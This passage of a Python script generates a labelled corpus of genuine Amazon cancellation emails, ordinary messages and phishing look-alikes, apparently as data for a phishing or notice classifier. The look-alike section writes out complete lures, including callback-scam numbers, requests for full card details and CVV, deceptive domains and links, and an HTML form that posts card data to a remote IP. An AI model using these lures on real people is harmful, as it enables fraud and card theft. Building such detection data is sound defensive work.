           "eBay", "ebay@ebay.com", EN_TO[0], "Your order has been cancelled: Nintendo Switch OLED Model - White",
           html="""<html><head><meta charset="utf-8"></head><body style="font-family:Helvetica,Arial,sans-serif;color:#111820">
<table width="600" align="center" cellpadding="0" cellspacing="0"><tr><td style="padding:20px 0">
<img src="https://ir.ebaystatic.com/cr/v/c1/ebay-logo-1-1200x630-margin.png" width="90" alt="eBay"></td></tr>
<tr><td><h1 style="font-size:24px">Your order has been cancelled</h1>
<p>Hi Sarah, the seller <b>gamedeals_direct</b> cancelled your order. You don't need to do anything.</p>
<p><b>Reason:</b> The item is out of stock.</p>
<p><b>Message from the seller:</b> "So sorry - the last unit sold on our Amazon storefront a few minutes before your purchase
and our stock sync hadn't caught up. Refund issued in full."</p>
<table cellpadding="6" style="border:1px solid #e5e5e5;width:100%"><tr><td width="96"><img src="https://i.ebayimg.com/images/g/x/s-l96.jpg" width="80" alt=""></td>
<td>Nintendo Switch OLED Model - White<br>Order number: """ + _ebay_order + """<br>Item price: $309.00</td></tr></table>
<p><b>Refund:</b> $309.00 has been issued to your original payment method (PayPal). It can take up to 5 business days to appear.</p>
<p><a href="https://order.ebay.com/ord/show?orderId=""" + _ebay_order + """">View order details</a></p>
<p style="font-size:11px;color:#707070">eBay will never ask for your password in an email. Learn how to recognise
spoof emails at https://www.ebay.com/help/account/protecting-account/recognizing-spoof-phishing-emails<br>
Copyright &copy; 1995-2024 eBay Inc. All Rights Reserved. eBay Inc., 2025 Hamilton Avenue, San Jose, CA 95125.</p>
</td></tr></table></body></html>
""", charset="utf-8", cte="qp",
           pre=[recv("mxphxpool1234.ebay.com", "66.211.185.%d" % rng.randrange(1, 250)),
                auth_hdr("dkim=pass header.i=@ebay.com header.s=ebay01; spf=pass smtp.mailfrom=ebay.com; "
                         "dmarc=pass (p=REJECT sp=REJECT dis=NONE) header.from=ebay.com")], tz=-7)

plain_mail("non_notice", "en", None, False, None,
           "friend says she cancelled her own Amazon order and quotes the subject line",
           "Hannah Reid", "hannah.reid93@gmail.com", EN_TO[0], "Re: air fryer for the cabin??",
           text="""Hey Sarah,

Quick update - I cancelled my Amazon order for the Ninja air fryer last night. Costco had the exact same
one for $40 less, so I grabbed it there on the way home. Amazon sent the usual "Your Amazon.com order
has been canceled" email within a minute, so no harm done \U0001F605

So we're covered for the cabin. Can you bring the big cooler? Mike says he'll sort the firewood.

See you Friday!
H.

On Tue, Sarah Mitchell <sarah.mitchell82@gmail.com> wrote:
> Did you end up ordering the air fryer or should I?
""", charset="utf-8", cte="8bit",
           pre=[recv("mail-sor-f41.google.com", "209.85.220.41"),
                auth_hdr("dkim=pass header.i=@gmail.com header.s=20230601; spf=pass smtp.mailfrom=hannah.reid93@gmail.com; "
                         "dmarc=pass (p=NONE sp=QUARANTINE dis=NONE) header.from=gmail.com")],
           post=[("In-Reply-To", "<CAJx7k2Lq0bN@mail.gmail.com>")], tz=-8)

plain_mail("non_notice", "en", None, False, None,
           "consumer newsletter warning about fake Amazon cancellation emails; quotes a phishing subject",
           "Scam Alert Weekly", "newsletter@scamalertweekly.co.uk", EN_TO[4],
           "This week: the fake 'Amazon order cancelled' email doing the rounds",
           text="""SCAM ALERT WEEKLY - Issue 212

1. The fake "order cancelled" email
Readers have forwarded us dozens of emails with the subject line

   "Your Amazon.co.uk order #204-5581-22901 has been cancelled - refund pending"

The message claims your payment failed and asks you to call a "refund department" on an 0800
number or to reply with your card details. Amazon says it will never ask for card details by email
or ask you to ring an unfamiliar number. Tell-tale signs: the sender address is not an amazon.co.uk
address, the order number has the wrong format, and the links point to other websites.

What to do: don't click, don't call. Check your orders by typing amazon.co.uk into your browser
yourself, and forward the email to report@phishing.gov.uk.

2. Parcel-delivery texts are back
...

You are receiving this because you subscribed at scamalertweekly.co.uk.
Unsubscribe: https://scamalertweekly.co.uk/unsubscribe?u=8f1c2
""",
           html=None, charset="utf-8", cte="qp",
           pre=[recv("o12.email.scamalertweekly.co.uk", "167.89.%d.%d" % (rng.randrange(1, 120), rng.randrange(1, 250))),
                auth_hdr("dkim=pass header.i=@scamalertweekly.co.uk; spf=pass smtp.mailfrom=bounces.scamalertweekly.co.uk; "
                         "dmarc=pass header.from=scamalertweekly.co.uk")],
           post=[("List-Unsubscribe", "<https://scamalertweekly.co.uk/unsubscribe?u=8f1c2>"),
                 ("Precedence", "bulk")])

_fresh_html = amz_html("en", "amazon.co.uk", None, "Hello Emily,",
                       ["Your reserved Amazon Fresh delivery slot for Saturday 14 September, 08:00 - 10:00, has been "
                        "cancelled because checkout was not completed before the slot reservation expired.",
                        "No order was placed and you have not been charged. Your basket has been saved - you can book "
                        "a new slot at any time."], [], None, ("Book a new slot", "https://www.amazon.co.uk/alm/storefront"),
                       lab="en-gb")
plain_mail("non_notice", "en", None, False, None,
           "Amazon Fresh delivery slot reservation cancelled, no order exists",
           "Amazon Fresh", "no-reply@amazon.co.uk", EN_TO[4], "Your Amazon Fresh delivery slot has been cancelled",
           html=_fresh_html, charset="utf-8", cte="qp",
           pre=[("Received", lambda dt: received_amazon("amazon.co.uk", dt))],
           post=[("X-AMAZON-MAIL-RELAY-TYPE", "notification")], msgid_domain="eu-west-1.amazonses.com")

plain_mail("non_notice", "en", None, False, None,
           "Prime membership cancelled at customer's request (amazon.co.za)",
           "Amazon.co.za", "digital-no-reply@amazon.co.za", EN_TO[7], "Your Amazon Prime membership has been cancelled",
           text="""Amazon.co.za

Hello Thabo,

We've cancelled your Amazon Prime membership as you requested. You can continue to enjoy your Prime
benefits until 21 October 2024, after which you will not be charged again.

Changed your mind? You can restart your membership at any time before then in Your Prime Membership:
https://www.amazon.co.za/prime

Your orders are not affected by this change.

Amazon will never ask you for your password or card details by email. If your card details have changed,
update them in Your Account.

This email was sent from a notification-only address that cannot accept incoming email.
""",
           html=None, charset="utf-8", cte="7bit",
           pre=[("Received", lambda dt: received_amazon("amazon.co.za", dt)), ("Authentication-Results", auth_pass("amazon.co.za"))],
           post=[("X-AMAZON-MAIL-RELAY-TYPE", "notification")], msgid_domain="eu-west-1.amazonses.com", tz=2)

_ie_order = order_no("206")
_ie_text = amz_text("en", "amazon.ie", "Payment Update Required", _ie_order, "Hello Aoife,",
                    ["We were unable to process the payment for your order #%s because your card issuer declined the "
                     "charge." % _ie_order,
                     "To keep your order, please update your payment information by 18 November. Go to Your Orders, "
                     "select this order and choose 'Revise payment'. If we don't receive a valid payment method by then, "
                     "your order will be cancelled.",
                     "Your order will ship as soon as the payment is confirmed."],
                    [("Tefal Ingenio Emotion 13-Piece Pan Set", "Amazon EU S.\u00e0 r.l.", "\u20ac129.99", 1)],
                    None, "en-gb", items_label="Items in this order")
_ie_html = amz_html("en", "amazon.ie", _ie_order, "Hello Aoife,",
                    ["We were unable to process the payment for your order because your card issuer declined the charge.",
                     "To keep your order, please update your payment information by 18 November. If we don't receive a "
                     "valid payment method by then, your order will be cancelled.",
                     "Your order will ship as soon as the payment is confirmed."],
                    [("Tefal Ingenio Emotion 13-Piece Pan Set", "Amazon EU S.\u00e0 r.l.", "\u20ac129.99", 1)],
                    None, ("Revise payment", "https://www.amazon.ie/gp/css/order-history"), lab="en-gb",
                    items_label="Items in this order")
plain_mail("non_notice", "en", None, False, None,
           "genuine payment reminder: update payment or order will be cancelled (not cancelled yet)",
           "Amazon.ie", "payments-messages@amazon.ie", EN_TO[8],
           "Action required: update your payment method for order #%s" % _ie_order,
           text=_ie_text, html=_ie_html, charset="utf-8", cte="qp",
           pre=[("Received", lambda dt: received_amazon("amazon.ie", dt)), ("Authentication-Results", auth_pass("amazon.ie"))],
           post=[("X-AMAZON-MAIL-RELAY-TYPE", "notification")], msgid_domain="eu-west-1.amazonses.com", reply_to="no-reply@amazon.ie")

# ---- EN lookalikes
plain_mail("lookalike", "en", "payment_issue", True, None,
           "gmail sender, callback phone number, malformed order number",
           "Amazon Support", "amazonorders.refunddesk@gmail.com", EN_TO[9],
           "Order Cancelled: Apple iPhone 15 Pro Max 256GB - Refund Pending",
           text="""Dear Customer,

Your Amazon order #112-7734-99821 has been CANCELLED due to payment failure.

Item: Apple iPhone 15 Pro Max 256GB Natural Titanium
Amount: $1,499.00
Payment: Visa ****
Status: Cancelled - Refund on hold

Your bank has flagged the transaction and the amount of $1,499.00 will be held until
you confirm the refund with our Billing Department. To release the refund to your
account please call our toll free number +1 (888) 555-0143 (24/7) within 24 hours.

If you do not call, the amount will be charged and the refund cannot be processed.

Thank you for shopping with us,
Amazon Billing Department
""", charset="utf-8", cte="7bit",
           pre=[recv("mail-sor-f69.google.com", "209.85.220.69"),
                auth_hdr("dkim=pass header.i=@gmail.com header.s=20230601; spf=pass smtp.mailfrom=amazonorders.refunddesk@gmail.com; "
                         "dmarc=pass (p=NONE sp=QUARANTINE dis=NONE) header.from=gmail.com")], tz=-5)

_o = order_no("113")
plain_mail("lookalike", "en", "fraud_prevention", True, None,
           "look-alike domain amazon-orders.help with its own DKIM pass; account suspended + code",
           "Amazon.com", "no-reply@amazon-orders.help", EN_TO[1],
           "Your account has been suspended - order #%s cancelled" % _o,
           html=phish_html("Amazon", "amazon", "Hello James,",
                           ["We detected unusual sign-in activity on your Amazon account from a new device "
                            "(Lagos, Nigeria). As a precaution we have <b>suspended your account</b> and "
                            "<b>cancelled your most recent order</b>.",
                            "To restore access and reinstate your order, enter the verification code below on our "
                            "secure page within 24 hours. After that, your account will be permanently closed.",
                            '<span style="font-size:26px;letter-spacing:4px;font-weight:bold">ACX-772914</span>'],
                           "Restore my account", "https://amazon-orders.help/restore?c=ACX-772914&u=jamesoconnor",
                           footer=["Amazon.com, Inc., 410 Terry Ave N, Seattle, WA 98109",
                                   "We will never ask for your password by email."], order=_o),
           charset="utf-8", cte="qp",
           pre=[recv("mail.amazon-orders.help", "185.225.%d.%d" % (rng.randrange(1, 250), rng.randrange(1, 250))),
                auth_hdr("dkim=pass header.i=@amazon-orders.help header.s=default; spf=pass smtp.mailfrom=amazon-orders.help; "
                         "dmarc=pass (p=NONE) header.from=amazon-orders.help")])

plain_mail("lookalike", "en", "payment_issue", True, None,
           "outlook.com sender asks to reply with full card details; windows-1252",
           "Amazon.co.uk Customer Service", "amazon.uk.cs-team@outlook.com", EN_TO[4],
           "Your Amazon.co.uk order has been cancelled \u2013 payment declined",
           text="""Dear Valued Customer,

We regret to inform you that your recent Amazon.co.uk order (Ref: 204-6619-0072) has been
cancelled because your payment was declined by your bank.

Order total: \u00a3238.47

To reinstate your order and avoid further delays, please reply to this email with the
following information so our payments team can re-authorise the transaction manually:

  - Full name on card
  - Card number (16 digits)
  - Expiry date
  - CVV (3 digits on the back)
  - Billing postcode

Once we receive these details your order will be dispatched within 24 hours.

Kind regards,
Amazon.co.uk Payments Team
\u00a9 Amazon.co.uk \u2013 All rights reserved
""", charset="windows-1252", cte="qp", header_charset="windows-1252",
           pre=[recv("EUR05-AM6-obe.outbound.protection.outlook.com", "40.92.%d.%d" % (rng.randrange(1, 120), rng.randrange(1, 250)),
                     "mx.btinternet.com"),
                auth_hdr("spf=pass smtp.mailfrom=outlook.com; dkim=pass header.d=outlook.com; "
                         "dmarc=pass action=none header.from=outlook.com", "mx.btinternet.com")])

_o = order_no("111")
_evil = "http://amzn-refund-center.xyz/us/login.php?session=%s" % rand_alnum(24, string.ascii_lowercase + string.digits)
plain_mail("lookalike", "en", "technical_issue", True, None,
           "amazon.com.<evil> sender subdomain; links display amazon.com but href goes elsewhere; copies real template",
           "Amazon.com", "auto-confirm@amazon.com.order-status.info", EN_TO[9],
           "Your Amazon.com order #%s has been canceled" % _o,
           text=("Hello,\n\nDue to a processing error in our system, your order #%s has been canceled.\n\n"
                 "To receive your refund of $684.20, confirm your billing details in Your Orders:\n"
                 "https://www.amazon.com/gp/css/order-history\n\nAmazon.com\n" % _o),
           html=phish_html("Amazon.com", "amazon", "Hello,",
                           ["Due to a processing error in our system, your order has been canceled and the charge of "
                            "<b>$684.20</b> could not be completed correctly.",
                            "To receive your refund, please confirm your billing details in Your Orders. Refunds that "
                            "are not confirmed within 48 hours are returned to the merchant."],
                           "View or manage order", _evil,
                           shown_links=[("https://www.amazon.com/gp/css/order-history", _evil),
                                        ("https://www.amazon.com/gp/help/customer/display.html", _evil)],
                           footer=["This email was sent from a notification-only address that cannot accept incoming email.",
                                   "Amazon.com will never ask for your password or card number in an email."],
                           order=_o),
           charset="utf-8", cte="qp", html_cte="b64",
           pre=[recv("vps-4412.hostinger-srv.net", "45.84.%d.%d" % (rng.randrange(1, 250), rng.randrange(1, 250))),
                auth_hdr("spf=pass smtp.mailfrom=order-status.info; dkim=none; dmarc=none header.from=amazon.com.order-status.info")])

_o = order_no("114")
plain_mail("lookalike", "en", "inventory_shortage", True, None,
           "Cyrillic homoglyph display name, unrelated sender domain, refund-claim link",
           "\u0410m\u0430z\u043en.com", "noreply@mail-service-78.net", EN_TO[6],
           "Your Amazon.com order #%s has been canceled" % _o,
           html=phish_html("Amazon.com", "amazon", "Hi Megan,",
                           ["Unfortunately the seller is unable to fulfill your order because the item is no longer "
                            "in stock. Your order has been canceled.",
                            "Item: Samsung 65\" Class QLED 4K Q80C<br>Amount: $997.99",
                            "To receive your refund, please request it within 3 days using the button below. "
                            "Unclaimed refunds are credited as Amazon gift card balance."],
                           "Request refund", "https://refund-amazon.support-claims.click/r/%s" % rand_alnum(10),
                           footer=["\u00a9 1996-2024, Amazon.com, Inc. or its affiliates"], order=_o),
           charset="utf-8", cte="b64",
           pre=[recv("mta-out3.mail-service-78.net", "103.76.%d.%d" % (rng.randrange(1, 250), rng.randrange(1, 250))),
                auth_hdr("spf=neutral smtp.mailfrom=mail-service-78.net; dkim=none; dmarc=none header.from=mail-service-78.net")],
           tz=-6)

plain_mail("lookalike", "en", "payment_issue", True, None,
           "amaz0n look-alike domain; order WILL be cancelled unless reader updates card",
           "Amazon.com.au", "orders@amaz0n-au.com", EN_TO[5],
           "Action needed: your order will be cancelled in 24 hours",
           text="""Hello Liam,

Your card was declined for order #250-4471203-8841. Your order will be cancelled in 24 hours
unless you update your payment method.

Update payment now: https://amaz0n-au.com/ap/payment?ref=upd

Amazon.com.au
""",
           html=phish_html("Amazon.com.au", "amazon.com.au", "Hello Liam,",
                           ["Your card was declined for your recent order.",
                            "<b>Your order will be cancelled in 24 hours</b> unless you update your payment method. "
                            "Items in your order are reserved until then."],
                           "Update payment method", "https://amaz0n-au.com/ap/payment?ref=upd",
                           footer=["Amazon Commercial Services Pty Ltd, ABN 30 616 935 623"], order="250-4471203-8841"),
           charset="utf-8", cte="qp",
           pre=[recv("smtp.amaz0n-au.com", "194.87.%d.%d" % (rng.randrange(1, 250), rng.randrange(1, 250))),
                auth_hdr("spf=pass smtp.mailfrom=amaz0n-au.com; dkim=pass header.d=amaz0n-au.com; dmarc=pass header.from=amaz0n-au.com")],
           tz=10)

plain_mail("lookalike", "en", "technical_issue", True, None,
           "crude yahoo sender, no order number, HTML attachment 'refund form'",
           "AMAZON PRIME", "amzn.refunds2024@yahoo.com", "undisclosed-recipients:;",
           "CANCELLATION NOTICE !! Your Amazon order",
           text="""Dear Amazon Customer,

Your order was CANCELED because of a system error in our warehouse. You are eligable for a full refund
of $429.99 + $50 compensation.

Please download and fill the attached Refund Form to get your money back. Refund will be sent
within 2 business days after we recieve the form.

Amazon Prime Team
""", charset="us-ascii", cte="7bit",
           attachments=[("Amazon_Refund_Form.html",
                         '<html><body><h2>Amazon Refund Form</h2><form action="http://45.133.1.%d/amz/post.php" method="post">'
                         'Name <input name="n"><br>Card number <input name="cc"><br>Expiry <input name="exp"><br>'
                         'CVV <input name="cvv"><br><input type="submit" value="Submit refund"></form></body></html>'
                         % rng.randrange(2, 250), "text/html")],
           pre=[recv("sonic317-21.consmr.mail.ne1.yahoo.com", "66.163.%d.%d" % (rng.randrange(1, 250), rng.randrange(1, 250))),
                auth_hdr("dkim=pass header.i=@yahoo.com header.s=s2048; spf=pass smtp.mailfrom=yahoo.com; "
                         "dmarc=pass (p=REJECT) header.from=yahoo.com")])

_o = order_no("403")
plain_mail("lookalike", "en", "customer_request", True, None,
           "spoofed From amazon.in failing DMARC, Reply-To gmail, 'you cancelled, if not you call' callback",
           "Amazon.in", "auto-confirm@amazon.in", EN_TO[2],
           "Your Amazon.in order %s has been cancelled" % _o,
           text=("Hello Priya,\n\nYour order %s has been cancelled as per your request.\n\n"
                 "Cancel Reason: Customer Canceled\nItem: Apple MacBook Air M3 (13-inch, 16GB, 512GB)\n"
                 "Refund amount: \u20b91,34,900.00\n\n"
                 "If you did NOT request this cancellation, your account may be compromised. Call Amazon Customer "
                 "Care immediately on +91 80 6925 3318 to stop the refund being sent to another account.\n\n"
                 "Amazon.in\nWe will never ask for your password.\n" % _o),
           charset="utf-8", cte="qp",
           reply_to="amazon.in.customercare.help@gmail.com",
           pre=[("Return-Path", "<bounce@srv1.cloudhost-mailer.in>"),
                recv("srv1.cloudhost-mailer.in", "103.120.%d.%d" % (rng.randrange(1, 250), rng.randrange(1, 250))),
                auth_hdr("spf=softfail (domain of transitioning auto-confirm@amazon.in does not designate 103.120.0.0 as "
                         "permitted sender) smtp.mailfrom=auto-confirm@amazon.in; dkim=none; "
                         "dmarc=fail (p=QUARANTINE sp=QUARANTINE dis=QUARANTINE) header.from=amazon.in")],
           msgid_domain="srv1.cloudhost-mailer.in", tz=5.5)

# =================================================================== GERMAN
DE_TO = ['"Jens Hartmann" <jens.hartmann@web.de>', '"Sabine M\u00fcller" <sabine.mueller71@gmx.de>',
         '"Tobias Krause" <t.krause@t-online.de>', '"Anna Schneider" <anna.schneider@gmail.com>',
         '"Markus Wei\u00df" <markus.weiss@posteo.de>', '"Claudia Becker" <claudia.becker@freenet.de>',
         'lena.vogt@outlook.de', '"Felix Neumann" <felix.neumann@icloud.com>']

# ---- DE notices
amz_notice("de", "amazon.de", "order-update",
           "Ihre Amazon.de Bestellung #{order}: Vorbestellung storniert",
           "Guten Tag Anna Schneider,",
           ["leider m\u00fcssen wir Ihnen mitteilen, dass wir Ihre Vorbestellung nicht erf\u00fcllen k\u00f6nnen. Unser "
            "Lieferant kann uns den unten aufgef\u00fchrten Artikel nicht in der ben\u00f6tigten Menge liefern.",
            "Wir haben den Artikel daher aus Ihrer Bestellung #{order} storniert. Ihr Zahlungsmittel wurde nicht "
            "belastet.",
            "Wir bedauern, Ihnen keine bessere Nachricht \u00fcbermitteln zu k\u00f6nnen, und hoffen, Sie bald wieder bei "
            "Amazon.de begr\u00fc\u00dfen zu d\u00fcrfen."],
           [("Nintendo Switch 2 + Mario Kart World (Bundle)", "Amazon EU S.\u00e0 r.l.", "EUR 509,99", 1)],
           "inventory_shortage", True, "pre-order cannot be filled, supplier shortage", True,
           fmt="alt", charset="utf-8", cte="qp", title="Stornierung", to=DE_TO[3], tz=1,
           button=("Bestelldetails anzeigen", "https://www.amazon.de/gp/css/order-history"))

amz_notice("de", "amazon.de", "payments-messages",
           "Ihre Amazon.de-Bestellung {order} wurde storniert",
           "Guten Tag Tobias Krause,",
           ["Ihre Bestellung #{order} wurde storniert.",
            "Die Zahlung f\u00fcr diese Bestellung konnte nicht autorisiert werden, da die hinterlegte Kreditkarte "
            "(Mastercard mit Endziffern 0382) abgelaufen ist. Wir haben Sie per E-Mail gebeten, Ihre "
            "Zahlungsinformationen zu aktualisieren. Da wir innerhalb der angegebenen Frist keine g\u00fcltige "
            "Zahlungsart erhalten haben, konnten wir die Bestellung leider nicht versenden.",
            "Wenn Sie die Artikel weiterhin kaufen m\u00f6chten, geben Sie bitte eine neue Bestellung mit einer "
            "g\u00fcltigen Zahlungsart auf."],
           [("Philips Sonicare DiamondClean 9000 Elektrische Zahnb\u00fcrste HX9911/27", "Amazon EU S.\u00e0 r.l.",
             "EUR 179,99", 1)],
           "payment_issue", True, "expired card, payment revision not made in time; iso-8859-1 text", False,
           fmt="text", charset="iso-8859-1", cte="qp", title="Stornierung", to=DE_TO[2], tz=1)

amz_notice("de", "amazon.de", "order-update",
           "Stornierung Ihrer Bestellung #{order} bei Amazon.de",
           "Guten Tag Markus Wei\u00df,",
           ["aufgrund eines technischen Fehlers wurde der unten aufgef\u00fchrte Artikel auf Amazon.de zu einem "
            "falschen Preis angezeigt.",
            "Wie in unseren Allgemeinen Gesch\u00e4ftsbedingungen beschrieben, haben wir Ihre Bestellung #{order} "
            "deshalb storniert. Eine eventuell bereits erfolgte Belastung Ihres Zahlungsmittels wird vollst\u00e4ndig "
            "r\u00fcckerstattet.",
            "Wir entschuldigen uns f\u00fcr die entstandenen Unannehmlichkeiten."],
           [("Samsung Galaxy Tab S9 FE, 128 GB, Wi-Fi, Grau", "Amazon EU S.\u00e0 r.l.", "EUR 4,49", 1)],
           "technical_issue", True, "wrong price shown due to technical error", False,
           fmt="alt", charset="utf-8", cte="b64", title="Stornierung", to=DE_TO[4], tz=2)

amz_notice("de", "amazon.de", "cs-reply",
           "Ihre Bestellung #{order} wurde storniert",
           "Guten Tag Sabine M\u00fcller,",
           ["bei einer routinem\u00e4\u00dfigen \u00dcberpr\u00fcfung haben wir ungew\u00f6hnliche Aktivit\u00e4ten in "
            "Ihrem Kundenkonto festgestellt. Zu Ihrem Schutz haben wir die unten aufgef\u00fchrte Bestellung "
            "storniert und Ihr Konto vor\u00fcbergehend gesperrt.",
            "Um die Sperre aufzuheben, rufen Sie bitte selbst amazon.de in Ihrem Browser auf, melden Sie sich an und "
            "folgen Sie den Anweisungen zur Best\u00e4tigung Ihrer Identit\u00e4t. Antworten Sie nicht auf diese E-Mail "
            "mit pers\u00f6nlichen Daten oder Zahlungsinformationen.",
            "Reservierte Betr\u00e4ge f\u00fcr diese Bestellung wurden freigegeben."],
           [("Apple iPad Air 11\" (M2) Wi-Fi 256 GB - Polarstern", "Amazon EU S.\u00e0 r.l.", "EUR 819,00", 1),
            ("Apple Pencil Pro", "Amazon EU S.\u00e0 r.l.", "EUR 149,00", 1)],
           "fraud_prevention", True, "unusual account activity, account on hold, identity verification", True,
           fmt="alt", charset="utf-8", cte="qp", title="Stornierung", to=DE_TO[1], tz=1, total="EUR 968,00")

amz_notice("de", "amazon.de", "auto-confirm",
           "Artikel erfolgreich storniert: \u201eBosch Professional 18V System Akku-Bohrschrauber GSR 18V-55\u2026\u201c",
           "Guten Tag Jens Hartmann,",
           ["wie von Ihnen gew\u00fcnscht, haben wir den folgenden Artikel aus Ihrer Bestellung #{order} storniert.",
            "Stornierungsgrund: Vom Kunden storniert",
            "Sie erhalten keine Rechnung f\u00fcr diesen Artikel. Falls Ihr Zahlungsmittel bereits belastet wurde, "
            "erstatten wir den Betrag innerhalb von 3 bis 5 Werktagen."],
           [("Bosch Professional 18V System Akku-Bohrschrauber GSR 18V-55 (2x 2,0 Ah Akku, L-BOXX)",
             "Amazon EU S.\u00e0 r.l.", "EUR 199,90", 1)],
           "customer_request", True, "customer cancelled item; HTML only, 8bit", True,
           fmt="html", charset="utf-8", cte="8bit", title="Stornierung", to=DE_TO[0], tz=2)

amz_notice("de", "amazon.de", "order-update",
           "Ihre Amazon.de Bestellung #{order} wurde storniert",
           "Guten Tag Claudia Becker,",
           ["leider k\u00f6nnen wir die unten aufgef\u00fchrten Artikel nicht an die von Ihnen gew\u00e4hlte Lieferadresse "
            "senden. Der Artikel \u00fcberschreitet die zul\u00e4ssigen Ma\u00dfe f\u00fcr eine Lieferung an eine "
            "DHL Packstation, und die Adresse konnte nicht ge\u00e4ndert werden, bevor die Bestellung versandbereit war.",
            "Ihre Bestellung #{order} wurde daher storniert. Ihr Zahlungsmittel wurde nicht belastet.",
            "Sie k\u00f6nnen die Artikel erneut bestellen und dabei eine Hausadresse als Lieferadresse angeben."],
           [("Tepro Holzkohlegrill Toronto Click, schwarz", "Amazon EU S.\u00e0 r.l.", "EUR 139,00", 1)],
           "unknown", True, "shipping address (Packstation) cannot receive item; reason outside the four causes", False,
           fmt="text", charset="utf-8", cte="qp", title="Stornierung", to=DE_TO[5], tz=1)

# ---- DE non-notices
plain_mail("non_notice", "de", None, False, None,
           "MediaMarkt order cancelled (out of stock), paid via Amazon Pay, refund via Amazon Pay",
           "MediaMarkt", "noreply@mediamarkt.de", DE_TO[7],
           "Deine Bestellung 1%09d wurde storniert" % rng.randrange(10 ** 9),
           html="""<html><head><meta charset="iso-8859-1"></head><body style="font-family:Arial,sans-serif;background:#f4f4f4">
<table width="600" align="center" style="background:#fff"><tr><td style="background:#df0000;padding:16px">
<img src="https://assets.mmsrg.com/is/166325/12975367df8e182e57044734f5165e190/c3/-/mm-logo-de.png" alt="MediaMarkt" width="160"></td></tr>
<tr><td style="padding:24px;font-size:14px;line-height:20px">
<h2>Hallo Felix,</h2>
<p>leider m\xfcssen wir dir mitteilen, dass wir deine Bestellung stornieren mussten: Der Artikel
<b>Sony WH-1000XM5 Kabelloser Kopfh\xf6rer, Schwarz</b> ist online nicht mehr verf\xfcgbar.</p>
<p>Du hast mit <b>Amazon Pay</b> bezahlt. Der Betrag von 299,00&nbsp;&euro; wird dir \xfcber Amazon Pay zur\xfcckerstattet;
die Gutschrift erscheint je nach hinterlegter Zahlungsart innerhalb von 3-5 Werktagen.</p>
<p>Vielleicht ist der Artikel in einem Markt in deiner N\xe4he vorr\xe4tig: <a href="https://www.mediamarkt.de/de/marketselection.html">Markt finden</a></p>
<p>Dein MediaMarkt Team</p></td></tr>
<tr><td style="padding:16px 24px;font-size:11px;color:#777">MediaMarkt E-Business GmbH, Wankelstra\xdfe 5, 85046 Ingolstadt.
Wir fragen dich niemals per E-Mail nach Passw\xf6rtern oder Zahlungsdaten.</td></tr></table></body></html>
""", charset="iso-8859-1", cte="qp", header_charset="iso-8859-1",
           pre=[recv("mail-out.mediamarkt.de", "194.25.%d.%d" % (rng.randrange(1, 250), rng.randrange(1, 250)), "mx01.icloud.com"),
                auth_hdr("dkim=pass header.d=mediamarkt.de; spf=pass smtp.mailfrom=mediamarkt.de; dmarc=pass header.from=mediamarkt.de",
                         "mx01.icloud.com")], tz=1)

plain_mail("non_notice", "de", None, False, None,
           "colleague writes that he cancelled the team's Amazon order himself",
           "Stefan Lorenz", "s.lorenz@kanzlei-lorenz-partner.de", DE_TO[0],
           "AW: Monitorhalterungen f\u00fcrs B\u00fcro",
           text="""Hallo Jens,

kurze Info: ich habe die Amazon-Bestellung mit den vier Monitorhalterungen gestern Abend storniert.
Die IT hat noch zwei St\u00fcck im Lager gefunden, und die anderen zwei bestellen wir \u00fcber unseren
Rahmenvertrag bei Bechtle. Die Stornobest\u00e4tigung von Amazon kam sofort, du musst also nichts weiter tun.

Kannst du bitte Frau Kessler Bescheid geben, dass die Kostenstelle 4710 nicht belastet wird?

Danke und Gru\u00df
Stefan

--
Stefan Lorenz
Lorenz & Partner Steuerberatungsgesellschaft mbH
Tel. 0221 948 772-14
""", charset="iso-8859-15", cte="8bit", header_charset="iso-8859-15",
           pre=[recv("mout.kundenserver.de", "212.227.126.%d" % rng.randrange(1, 250), "mx-ha.web.de")], tz=1)

plain_mail("non_notice", "de", None, False, None,
           "security newsletter about fake Amazon cancellation mails; quotes phishing subject",
           "Sicherheitsbrief", "newsletter@sicherheitsbrief.de", DE_TO[5],
           "Warnung: Gef\u00e4lschte \u201eBestellung storniert\u201c-Mails im Namen von Amazon",
           text="""Sicherheitsbrief - Ausgabe 37/2024

PHISHING-WARNUNG: "Ihre Amazon Bestellung wurde storniert - Konto gesperrt"

Derzeit erreichen uns viele Meldungen zu E-Mails mit dem Betreff "Ihre Amazon Bestellung wurde
storniert - Konto gesperrt". Darin hei\u00dft es, eine Bestellung sei wegen "verd\u00e4chtiger Aktivit\u00e4ten"
storniert worden; um das Konto zu entsperren, solle man einen Code auf einer verlinkten Seite
eingeben oder eine Hotline anrufen.

Unser Rat: Die Absenderadresse genau pr\u00fcfen, nicht auf Links klicken und Bestellungen nur direkt
im Kundenkonto kontrollieren. Amazon fragt nie per E-Mail nach Passwort oder Kartendaten.
Verd\u00e4chtige Mails k\u00f6nnen Sie an Amazon melden.

Weitere Themen dieser Ausgabe:
- Falsche Paketbenachrichtigungen per SMS
- So sichern Sie Ihr Router-Passwort

Abmelden: https://www.sicherheitsbrief.de/abmelden?id=77a91
""",
           html="""<html><body style="font-family:Georgia,serif;max-width:640px">
<h1 style="font-size:22px">Sicherheitsbrief &ndash; Ausgabe 37/2024</h1>
<h2 style="color:#b00">PHISHING-WARNUNG: &bdquo;Ihre Amazon Bestellung wurde storniert &ndash; Konto gesperrt&ldquo;</h2>
<p>Derzeit erreichen uns viele Meldungen zu E-Mails mit dem Betreff <i>&bdquo;Ihre Amazon Bestellung wurde storniert &ndash;
Konto gesperrt&ldquo;</i>. Darin hei&szlig;t es, eine Bestellung sei wegen &bdquo;verd&auml;chtiger Aktivit&auml;ten&ldquo;
storniert worden; um das Konto zu entsperren, solle man einen Code auf einer verlinkten Seite eingeben oder eine Hotline anrufen.</p>
<p><b>Unser Rat:</b> Die Absenderadresse genau pr&uuml;fen, nicht auf Links klicken und Bestellungen nur direkt im Kundenkonto
kontrollieren. Amazon fragt nie per E-Mail nach Passwort oder Kartendaten.</p>
<ul><li>Falsche Paketbenachrichtigungen per SMS</li><li>So sichern Sie Ihr Router-Passwort</li></ul>
<p style="font-size:11px"><a href="https://www.sicherheitsbrief.de/abmelden?id=77a91">Abmelden</a></p></body></html>
""", charset="utf-8", cte="qp",
           pre=[recv("mailout.sicherheitsbrief.de", "85.13.%d.%d" % (rng.randrange(1, 250), rng.randrange(1, 250)), "mx.freenet.de"),
                auth_hdr("dkim=pass header.d=sicherheitsbrief.de; spf=pass smtp.mailfrom=sicherheitsbrief.de; "
                         "dmarc=pass header.from=sicherheitsbrief.de", "mx.freenet.de")],
